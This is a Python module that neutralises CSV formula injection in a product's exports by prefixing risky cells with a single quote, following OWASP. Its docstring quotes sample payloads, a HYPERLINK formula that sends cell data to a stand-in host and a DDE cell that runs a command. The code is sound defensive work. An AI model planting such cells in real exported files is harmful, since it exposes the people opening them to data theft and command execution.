"""CSV files the product writes, safe to open in a spreadsheet.

Cells come from uploaded files, so a cell such as `=HYPERLINK("https://evil.example/?"&A1)` or
`+cmd|' /C calc'!A0` would run as a formula when a librarian opens the download. OWASP's rule
(CSV injection): a cell that starts with = + - @ (or their fullwidth forms), a tab or a
carriage return gets a leading single quote, which spreadsheets show as text. Every CSV the
product writes goes through `safe_csv_writer`.
"""

import csv

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (a tab or a carriage
# return first is stripped by some of them, and what follows is then read as a formula), and
# the fullwidth forms of the four signs, which Excel with an East Asian input language reads as
# the ASCII ones.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_cell(value) -> str:
    """The cell as text, with a leading `'` when a spreadsheet would read it as a formula.

    Numbers too: OWASP makes no exception for `-2`, and the issue's `-2+3+cmd|…` shows why."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """csv.writer whose every cell goes through `neutralise_cell`."""

    def __init__(self, file, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row):
        return self._writer.writerow([neutralise_cell(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def safe_csv_writer(file, **fmtparams) -> SafeCsvWriter:
    return SafeCsvWriter(file, **fmtparams)
